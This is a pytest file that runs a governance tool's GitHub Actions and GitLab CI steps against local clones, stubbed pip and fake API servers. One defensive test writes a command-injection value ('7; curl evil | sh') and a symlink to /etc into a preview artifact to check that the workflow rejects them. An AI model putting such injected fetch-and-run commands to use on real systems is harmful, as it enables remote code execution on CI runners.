"""The CI templates' steps, run for real on clones set up the way each CI system does.

The GitHub workflows' ``run:`` steps and ``actions/github-script`` bodies and the GitLab
example's ``script:`` lines are read from the files themselves (not copied into the
test), given the variables the platform sets (a pull request from a branch, from a fork,
a merge request in a subgroup, a merged-results pipeline), and run against a pull request
on a local "remote". Installation steps are skipped: the package under test is already
installed in this interpreter's environment, which is put first on PATH. The GitLab API
the merge-request note talks to is a small server on 127.0.0.1.
"""

from __future__ import annotations

import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest
import yaml

from tests.gitrepo import GitRepo
from tests.preview_scenario import BRANCH, build_upstream, clone_at

ROOT = Path(__file__).resolve().parent.parent
WORKFLOW = ROOT / ".github" / "workflows" / "governance.yml"
PREVIEW_WORKFLOW = ROOT / ".github" / "workflows" / "governance-preview.yml"
GITLAB = ROOT / "docs" / "examples" / "gitlab-ci.yml"

pytestmark = pytest.mark.slow


def _load(path: Path) -> Any:
    return yaml.load(path.read_text(encoding="utf-8"), Loader=yaml.BaseLoader)


def _env(repo: GitRepo, **extra: str) -> dict[str, str]:
    venv_bin = str(Path(sys.executable).parent)
    env = {k: v for k, v in repo.env.items() if not k.startswith(("GITHUB_", "CI_", "GITLAB"))}
    env.pop("GOVERNANCE_BASE_REF", None)
    return {**env, "PATH": venv_bin + os.pathsep + os.environ["PATH"], **extra}


def _bash(script: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    # GitHub's default shell for run steps: bash --noprofile --norc -eo pipefail.
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )


# --- GitHub Actions ---------------------------------------------------------------------


def _steps(path: Path, job: str) -> dict[str, dict[str, Any]]:
    return {step.get("name", ""): step for step in _load(path)["jobs"][job]["steps"]}


def _github_env(
    work: GitRepo, tmp_path: Path, *, fork: bool = False, event: str = "pull_request"
) -> dict[str, str]:
    """The variables GitHub sets for pull request #7 (from a branch or a fork)."""
    payload = tmp_path / "event.json"
    payload.write_text(
        json.dumps(
            {
                "pull_request": {
                    "number": 7,
                    "head": {
                        "sha": work.head(),
                        "repo": {
                            "full_name": "someone/credit-models" if fork else "acme/credit-models"
                        },
                    },
                }
            }
        ),
        encoding="utf-8",
    )
    workflow = _load(WORKFLOW)
    return _env(
        work,
        GITHUB_ACTIONS="true",
        GITHUB_EVENT_NAME=event,
        GITHUB_EVENT_PATH=str(payload),
        GITHUB_BASE_REF="main",
        GITHUB_HEAD_REF="promote",
        GITHUB_REF="refs/pull/7/merge",
        GITHUB_REPOSITORY="acme/credit-models",
        GITHUB_SERVER_URL="https://github.com",
        GITHUB_STEP_SUMMARY=str(tmp_path / "summary.md"),
        GITHUB_OUTPUT=str(tmp_path / "output"),
        RUNNER_TEMP=str(tmp_path / "runner-temp"),
        MKDOCS_CONFIG=workflow["env"]["MKDOCS_CONFIG"],
        GOVERNANCE_PUBLISHED_URL="https://acme.github.io/credit-models/",
        BASE_BRANCH="main",
        PR_NUMBER="7",
    )


def _run_job(path: Path, job: str, work: GitRepo, env: dict[str, str]) -> dict[str, Any]:
    """Run every shell step of ``job`` but Install, in order, as the runner does."""
    results = {}
    for name, step in _steps(path, job).items():
        if "run" not in step or name == "Install":
            continue
        if step.get("if") == "github.event_name == 'pull_request'" and (
            env.get("GITHUB_EVENT_NAME") != "pull_request"
        ):
            continue
        results[name] = _bash(step["run"], work.path, {**env, **step.get("env", {})})
        if results[name].returncode != 0:
            break
    return results


@pytest.mark.parametrize("fork", [False, True], ids=["from-a-branch", "from-a-fork"])
def test_github_pull_request_gate_and_preview_jobs(tmp_path: Path, fork: bool) -> None:
    upstream = build_upstream(tmp_path / "upstream")
    work = clone_at(upstream, tmp_path / "checkout")
    env = _github_env(work, tmp_path, fork=fork)

    gate = _run_job(WORKFLOW, "gate", work, env)["Governance gate"]
    # The retrain made Lee's staging approval stale: the gate fails, on the record's line.
    assert gate.returncode == 1
    assert "::error file=governance_records/signoffs/credit/1.0/staging-ml-lead-lee.yaml" in (
        gate.stdout
    )

    preview = _run_job(WORKFLOW, "preview", work, env)
    assert all(r.returncode == 0 for r in preview.values()), {
        k: r.stderr for k, r in preview.items()
    }
    folder = work.path / "preview"
    diff = (folder / "governance-diff.md").read_text(encoding="utf-8")
    assert diff == (tmp_path / "summary.md").read_text(encoding="utf-8")
    assert "**Gate: ❌ fail** (was ✅ pass)" in diff
    assert (folder / "pull-request-number").read_text(encoding="utf-8") == "7\n"
    changes = (folder / "site" / "governance" / "changes.html").read_text(encoding="utf-8")
    assert "pull request #7" in changes
    assert ("(from a fork)" in changes) is fork

    # The workflow_run side checks the downloaded artifact before using it.
    check = _steps(PREVIEW_WORKFLOW, "publish")["Check the preview is data"]
    result = _bash(check["run"], tmp_path / "checkout", env)
    assert result.returncode == 0, result.stdout + result.stderr
    assert (tmp_path / "output").read_text(encoding="utf-8") == "number=7\n"


@pytest.mark.parametrize(
    "tamper",
    ["number", "symlink"],
    ids=["a-number-that-is-a-command", "a-symlink-out-of-the-site"],
)
def test_workflow_run_side_refuses_an_artifact_that_is_not_plain_data(
    tmp_path: Path, tamper: str
) -> None:
    work = GitRepo(tmp_path / "runner")
    preview = work.path / "preview"
    (preview / "site").mkdir(parents=True)
    (preview / "governance-diff.md").write_text("## Governance changes\n", encoding="utf-8")
    (preview / "pull-request-number").write_text("7\n", encoding="utf-8")
    if tamper == "number":
        (preview / "pull-request-number").write_text("7; curl evil | sh\n", encoding="utf-8")
    else:
        (preview / "site" / "secrets").symlink_to("/etc")
    output = tmp_path / "output"
    check = _steps(PREVIEW_WORKFLOW, "publish")["Check the preview is data"]
    result = _bash(check["run"], work.path, _env(work, GITHUB_OUTPUT=str(output)))
    assert result.returncode == 1
    assert "::error::" in result.stdout
    assert not output.exists()


def test_github_push_to_main_gate_fails_and_the_wiki_is_not_built(tmp_path: Path) -> None:
    upstream = build_upstream(tmp_path / "upstream", with_production_signoff=False)
    upstream.git("merge", "-q", "--ff-only", BRANCH)
    work = clone_at(upstream, tmp_path / "checkout", ref="main")
    env = _env(work, GITHUB_ACTIONS="true", GITHUB_EVENT_NAME="push", BASE_BRANCH="")
    gate = _run_job(WORKFLOW, "gate", work, env)["Governance gate"]
    assert gate.returncode == 1
    assert "missing-signoff" in gate.stdout
    build = _run_job(WORKFLOW, "publish", work, {**env, "MKDOCS_CONFIG": "mkdocs.yml"})
    (result,) = build.values()
    assert result.returncode == 1
    assert "missing-signoff" in result.stderr
    assert not (work.path / "site" / ".nojekyll").exists()


def test_github_push_to_main_publishes_a_passing_wiki_without_jekyll(tmp_path: Path) -> None:
    upstream = build_upstream(tmp_path / "upstream")
    # Merged with a fresh staging approval as well: the gate passes on main.
    work = clone_at(upstream, tmp_path / "checkout", ref="main")
    env = _env(work, GITHUB_ACTIONS="true", GITHUB_EVENT_NAME="push", BASE_BRANCH="")
    gate = _run_job(WORKFLOW, "gate", work, env)["Governance gate"]
    assert gate.returncode == 0, gate.stdout
    (result,) = _run_job(WORKFLOW, "publish", work, {**env, "MKDOCS_CONFIG": "mkdocs.yml"}).values()
    assert result.returncode == 0, result.stderr
    assert (work.path / "site" / ".nojekyll").is_file()
    assert (work.path / "site" / "governance" / "index.html").is_file()


_PIP_RECORDER = """#!/bin/sh
# Stands in for pip (the release is on a Git host this machine cannot reach): records
# the arguments it was called with.
printf '%s\n' "$@" > "$PIP_ARGS"
"""


def _recording_pip(tmp_path: Path) -> dict[str, str]:
    bin_dir = tmp_path / "pip-bin"
    bin_dir.mkdir()
    (bin_dir / "pip").write_text(_PIP_RECORDER, encoding="utf-8")
    (bin_dir / "pip").chmod(0o755)
    return {
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        "PIP_ARGS": str(tmp_path / "args"),
    }


@pytest.mark.parametrize("job", ["gate", "preview", "publish"])
def test_github_install_step_installs_the_pinned_release_in_an_ml_repository(
    tmp_path: Path, job: str
) -> None:
    # A typical ML repository: no pyproject.toml, no requirements.txt.
    repo = GitRepo(tmp_path / "ml-repo")
    repo.commit("Notebook", files={"train.py": "print('train')\n", "mkdocs.yml": "site_name: x\n"})
    package = _load(WORKFLOW)["env"]["GOVERNANCE_PACKAGE"]
    env = {**_env(repo, GOVERNANCE_PACKAGE=package), **_recording_pip(tmp_path)}
    result = _bash(_steps(WORKFLOW, job)["Install"]["run"], repo.path, env)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "args").read_text(encoding="utf-8").splitlines() == ["install", package]


def test_github_install_step_in_this_repository_installs_its_own_code(tmp_path: Path) -> None:
    env = {**_env(GitRepo(tmp_path / "unused"), GOVERNANCE_PACKAGE="x"), **_recording_pip(tmp_path)}
    result = _bash(_steps(WORKFLOW, "gate")["Install"]["run"], ROOT, env)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "args").read_text(encoding="utf-8").splitlines() == ["install", "."]


def test_gitlab_installs_the_pinned_release(tmp_path: Path) -> None:
    gitlab = _load(GITLAB)
    repo = GitRepo(tmp_path / "ml-repo")
    package = gitlab["variables"]["GOVERNANCE_PACKAGE"]
    env = {**_env(repo, GOVERNANCE_PACKAGE=package), **_recording_pip(tmp_path)}
    result = _bash("\n".join(gitlab["default"]["before_script"]), repo.path, env)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "args").read_text(encoding="utf-8").splitlines() == [
        "install",
        "--quiet",
        package,
    ]


# --- the actions/github-script steps of the workflow_run side --------------------------

_GITHUB_SCRIPT_HARNESS = r"""
// Runs a workflow's github-script body as actions/github-script does (an async function
// of github, context, core, require), against an in-memory GitHub API.
const fs = require('fs');
const [scriptFile, stateFile] = process.argv.slice(2);
const state = JSON.parse(fs.readFileSync(stateFile, 'utf8'));
const calls = [];
const github = {
  paginate: async (method, params) => method(params),
  rest: {
    issues: {
      listComments: (params) => { calls.push(['list', params]); return state.comments; },
      updateComment: async (params) => { calls.push(['update', params]); },
      createComment: async (params) => { calls.push(['create', params]); },
    },
    pulls: {
      get: async (params) => { calls.push(['get', params]); return { data: state.pull }; },
    },
  },
};
const core = {
  setOutput: (name, value) => calls.push(['output', name, value]),
  setFailed: (message) => calls.push(['failed', message]),
  warning: (message) => calls.push(['warning', message]),
};
const context = { repo: { owner: 'acme', repo: 'credit-models' } };
const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
const body = fs.readFileSync(scriptFile, 'utf8');
new AsyncFunction('github', 'context', 'core', 'require', body)(github, context, core, require)
  .then(() => console.log(JSON.stringify(calls)))
  .catch((e) => { console.error(e); process.exit(1); });
"""

HEAD = "dc66c185a3fac408a1c2991048e9c18427027f2e"


def _github_script(
    tmp_path: Path, step: str, state: dict[str, Any], env: dict[str, str]
) -> list[Any]:
    node = shutil.which("node")
    assert node is not None, "node is needed to run the github-script steps"
    spec = _steps(PREVIEW_WORKFLOW, "publish")[step]
    workflow = _load(PREVIEW_WORKFLOW)
    (tmp_path / "script.js").write_text(spec["with"]["script"], encoding="utf-8")
    (tmp_path / "harness.js").write_text(_GITHUB_SCRIPT_HARNESS, encoding="utf-8")
    (tmp_path / "state.json").write_text(json.dumps(state), encoding="utf-8")
    (tmp_path / "preview").mkdir(exist_ok=True)
    (tmp_path / "preview" / "governance-diff.md").write_text(
        "## Governance changes\n", encoding="utf-8"
    )
    run_env = {
        **os.environ,
        "GOVERNANCE_PUBLISHED_URL": "https://acme.github.io/credit-models/",
        "GOVERNANCE_CHANGES_PAGE": workflow["env"]["GOVERNANCE_CHANGES_PAGE"],
        "HEAD_SHA": HEAD,
        "RUN_URL": "https://github.com/acme/credit-models/actions/runs/42",
        "PR_NUMBER": "7",
        **env,
    }
    result = subprocess.run(
        [node, "harness.js", "script.js", "state.json"],
        cwd=tmp_path,
        env=run_env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def test_the_artifact_number_counts_only_for_the_pull_request_at_the_built_commit(
    tmp_path: Path,
) -> None:
    match = "Match the pull request against GitHub's own record"
    ok = _github_script(
        tmp_path, match, {"pull": {"number": 7, "state": "open", "head": {"sha": HEAD}}}, {}
    )
    assert ["output", "open", "true"] in ok
    other = _github_script(
        tmp_path, match, {"pull": {"number": 7, "state": "open", "head": {"sha": "0" * 40}}}, {}
    )
    assert [c[0] for c in other] == ["get", "warning", "output"]
    assert other[-1] == ["output", "open", "false"]


def test_comment_for_a_branch_links_to_the_deployed_changes_page(tmp_path: Path) -> None:
    calls = _github_script(
        tmp_path,
        "Post or update the pull-request comment",
        {"comments": []},
        {"SAME_REPOSITORY": "true"},
    )
    assert [c[0] for c in calls] == ["list", "create"]
    created = calls[1][1]
    assert created["issue_number"] == 7
    body = created["body"]
    assert body.startswith("<!-- mkdocs-governance-diff -->\n")
    assert "(https://acme.github.io/credit-models/pr-preview/pr-7/governance/changes.html)" in body
    assert "## Governance changes" in body


def test_comment_for_a_fork_points_at_the_artifact_not_a_deployment(tmp_path: Path) -> None:
    calls = _github_script(
        tmp_path,
        "Post or update the pull-request comment",
        {"comments": []},
        {"SAME_REPOSITORY": "false"},
    )
    body = calls[1][1]["body"]
    assert "pr-preview" not in body
    assert "https://github.com/acme/credit-models/actions/runs/42" in body
    assert "site/governance/changes.html" in body


def test_comment_is_updated_not_repeated_and_a_quoting_human_is_left_alone(
    tmp_path: Path,
) -> None:
    marker = "<!-- mkdocs-governance-diff -->"
    comments = [
        {"id": 1, "user": {"type": "User", "login": "lee"}, "body": f"{marker} quoted"},
        {
            "id": 2,
            "user": {"type": "Bot", "login": "github-actions[bot]"},
            "body": f"{marker}\nold",
        },
    ]
    calls = _github_script(
        tmp_path,
        "Post or update the pull-request comment",
        {"comments": comments},
        {"SAME_REPOSITORY": "true"},
    )
    assert [c[0] for c in calls] == ["list", "update"]
    assert calls[1][1]["comment_id"] == 2


# --- GitLab CI --------------------------------------------------------------------------


def _gitlab_script(job: str) -> str:
    def flatten(item: Any) -> list[str]:
        return [x for sub in item for x in flatten(sub)] if isinstance(item, list) else [item]

    # GitLab runs the lines in one shell and stops at the first failing one.
    return "\n".join(flatten(_load(GITLAB)[job]["script"]))


def _gitlab_mr_clone(tmp_path: Path, upstream: GitRepo, *, merged_results: bool = False) -> GitRepo:
    """A merge-request pipeline's clone: only the MR's refs fetched, HEAD detached.

    ``merged_results``: HEAD is GitLab's synthetic merge of the MR into its target,
    committed by GitLab itself.
    """
    work = GitRepo(tmp_path / "mr", init=False)
    work.git("init", "-q")
    work.git("remote", "add", "origin", str(upstream.path))
    work.git("fetch", "-q", "origin", f"+refs/heads/{BRANCH}:refs/remotes/origin/{BRANCH}")
    work.git("checkout", "-q", "--detach", f"origin/{BRANCH}")
    if merged_results:
        work.git("fetch", "-q", "origin", "main")
        work.git("checkout", "-q", "--detach", "FETCH_HEAD")
        work.git(
            "merge",
            "-q",
            "--no-ff",
            "-m",
            "Merge branch 'promote' into 'main'",
            f"origin/{BRANCH}",
            env={
                "GIT_AUTHOR_NAME": "GitLab",
                "GIT_AUTHOR_EMAIL": "gitlab@example.com",
                "GIT_COMMITTER_NAME": "GitLab",
                "GIT_COMMITTER_EMAIL": "gitlab@example.com",
            },
        )
        work.git("update-ref", "-d", "refs/remotes/origin/main", check=False)
    return work


def _gitlab_env(work: GitRepo, upstream: GitRepo, **extra: str) -> dict[str, str]:
    """A merge request !12 of acme/risk/credit-models (a project in a subgroup)."""
    gitlab = _load(GITLAB)
    variables = dict(
        GITLAB_CI="true",
        CI_PIPELINE_SOURCE="merge_request_event",
        CI_MERGE_REQUEST_IID="12",
        CI_MERGE_REQUEST_TARGET_BRANCH_NAME="main",
        CI_MERGE_REQUEST_PROJECT_ID="4242",
        CI_MERGE_REQUEST_SOURCE_PROJECT_ID="4242",
        CI_MERGE_REQUEST_PROJECT_URL="https://gitlab.com/acme/risk/credit-models",
        CI_PROJECT_URL="https://gitlab.com/acme/risk/credit-models",
        CI_PROJECT_PATH="acme/risk/credit-models",
        CI_PROJECT_NAME="credit-models",
        CI_PAGES_URL="https://acme.gitlab.io/risk/credit-models/mr-12",
        CI_COMMIT_SHA=work.head(),
        MKDOCS_CONFIG=gitlab["variables"]["MKDOCS_CONFIG"],
        GOVERNANCE_CHANGES_PAGE=gitlab["variables"]["GOVERNANCE_CHANGES_PAGE"],
    )
    return _env(work, **{**variables, **extra})


def test_gitlab_gate_writes_a_junit_report_against_the_target_branch(tmp_path: Path) -> None:
    upstream = build_upstream(tmp_path / "upstream", with_production_signoff=False)
    work = _gitlab_mr_clone(tmp_path, upstream)
    assert work.git("branch", "-r").strip() == f"origin/{BRANCH}"
    result = _bash(_gitlab_script("governance-gate"), work.path, _gitlab_env(work, upstream))
    assert result.returncode == 1  # production lacks its sign-off
    report = ET.parse(work.path / "governance-junit.xml").getroot()
    failures = [f.get("message", "") + (f.text or "") for f in report.iter("failure")]
    assert any("missing-signoff" in text for text in failures)
    assert "origin/main" in work.git("branch", "-r")


def test_gitlab_merged_results_pipeline_judges_the_merge_requests_own_head(
    tmp_path: Path,
) -> None:
    upstream = build_upstream(tmp_path / "upstream")
    source = upstream.git("rev-parse", BRANCH).strip()
    work = _gitlab_mr_clone(tmp_path, upstream, merged_results=True)
    assert work.head() != source
    env = _gitlab_env(work, upstream, CI_MERGE_REQUEST_SOURCE_BRANCH_SHA=source)
    _bash(_gitlab_script("governance-gate"), work.path, env)
    assert work.head() == source
    report = (work.path / "governance-junit.xml").read_text(encoding="utf-8")
    assert "stale-signoff" in report


class _NotesApi(http.server.BaseHTTPRequestHandler):
    """GitLab's notes API for one merge request, in memory."""

    notes: ClassVar[list[dict[str, Any]]] = []
    calls: ClassVar[list[tuple[str, str]]] = []

    def log_message(self, format: str, *args: object) -> None:
        return

    def _reply(self, data: Any) -> None:
        body = json.dumps(data).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _read(self) -> dict[str, Any]:
        return json.loads(self.rfile.read(int(self.headers["Content-Length"])))

    def do_GET(self) -> None:
        assert self.headers["PRIVATE-TOKEN"] == "glpat-test"
        self.calls.append(("GET", self.path))
        self._reply({"id": 5} if self.path == "/api/v4/user" else self.notes)

    def do_POST(self) -> None:
        self.calls.append(("POST", self.path))
        note = {"id": 100 + len(self.notes), "author": {"id": 5}, **self._read()}
        self.notes.append(note)
        self._reply(note)

    def do_PUT(self) -> None:
        self.calls.append(("PUT", self.path))
        note_id = int(self.path.rsplit("/", 1)[1])
        for note in self.notes:
            if note["id"] == note_id:
                note.update(self._read())
        self._reply({})


@pytest.fixture
def notes_api() -> Iterator[str]:
    _NotesApi.notes = [
        # A reviewer quoting the marker: not ours, never edited.
        {"id": 1, "author": {"id": 77}, "body": "<!-- mkdocs-governance-diff --> quoted"}
    ]
    _NotesApi.calls = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _NotesApi)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/api/v4"
    finally:
        server.shutdown()
        server.server_close()


def test_gitlab_preview_in_a_subgroup_builds_pages_and_keeps_one_note(
    tmp_path: Path, notes_api: str
) -> None:
    upstream = build_upstream(tmp_path / "upstream")
    work = _gitlab_mr_clone(tmp_path, upstream)
    env = _gitlab_env(work, upstream, CI_API_V4_URL=notes_api, GOVERNANCE_NOTE_TOKEN="glpat-test")
    for _push in range(2):
        result = _bash(_gitlab_script("governance-preview"), work.path, env)
        assert result.returncode == 0, result.stdout + result.stderr
    changes = (work.path / "public" / "governance" / "changes.html").read_text(encoding="utf-8")
    assert "merge request !12" in changes
    assert "https://gitlab.com/acme/risk/credit-models/-/merge_requests/12" in changes
    # The published wiki: CI_PAGES_URL without this deployment's prefix.
    assert 'href="https://acme.gitlab.io/risk/credit-models/"' in changes
    notes_path = "/api/v4/projects/4242/merge_requests/12/notes"
    assert [c[0] for c in _NotesApi.calls if c[0] != "GET"] == ["POST", "PUT"]
    assert ("PUT", f"{notes_path}/101") in _NotesApi.calls
    ours = [n for n in _NotesApi.notes if n["author"]["id"] == 5]
    assert len(ours) == 1
    body = ours[0]["body"]
    assert "(https://acme.gitlab.io/risk/credit-models/mr-12/governance/changes.html)" in body
    assert "**Gate: ❌ fail** (was ✅ pass)" in body
    assert _NotesApi.notes[0]["body"] == "<!-- mkdocs-governance-diff --> quoted"


def test_gitlab_preview_without_a_token_posts_nothing_and_still_builds(tmp_path: Path) -> None:
    upstream = build_upstream(tmp_path / "upstream")
    work = _gitlab_mr_clone(tmp_path, upstream)
    # GitLab before 17.9: CI_PAGES_URL without the deployment's prefix.
    env = _gitlab_env(work, upstream, CI_PAGES_URL="https://acme.gitlab.io/risk/credit-models")
    result = _bash(_gitlab_script("governance-preview"), work.path, env)
    assert result.returncode == 0, result.stderr
    assert "GOVERNANCE_NOTE_TOKEN is not set" in result.stdout
    assert "(https://acme.gitlab.io/risk/credit-models/mr-12/governance/changes.html)" in (
        result.stdout
    )
    assert (work.path / "public" / "governance" / "changes.html").is_file()


def test_gitlab_fork_merge_request_gets_an_artifact_that_opens_from_disk(tmp_path: Path) -> None:
    upstream = build_upstream(tmp_path / "upstream")
    work = _gitlab_mr_clone(tmp_path, upstream)
    env = _gitlab_env(work, upstream, CI_MERGE_REQUEST_SOURCE_PROJECT_ID="99")
    result = _bash(_gitlab_script("governance-preview-artifact"), work.path, env)
    assert result.returncode == 0, result.stderr
    assert "## Governance changes" in result.stdout
    page = (work.path / "public" / "governance" / "changes.html").read_text(encoding="utf-8")
    assert "merge request !12</a> (from a fork)" in page
    # Links are to files, not folders: no directory listing when opened from disk.
    assert 'href="models/credit/1.0.html"' in page or 'href="models/credit/1.0.html#' in page


def test_gitlab_pages_job_publishes_the_default_branch(tmp_path: Path) -> None:
    upstream = build_upstream(tmp_path / "upstream")
    work = clone_at(upstream, tmp_path / "main", ref="main")
    env = _env(work, GITLAB_CI="true", CI_PIPELINE_SOURCE="push", MKDOCS_CONFIG="mkdocs.yml")
    result = _bash(_gitlab_script("pages"), work.path, env)
    assert result.returncode == 0, result.stderr
    assert (work.path / "public" / "governance" / "index.html").is_file()
    assert not (work.path / "public" / "governance" / "changes").exists()
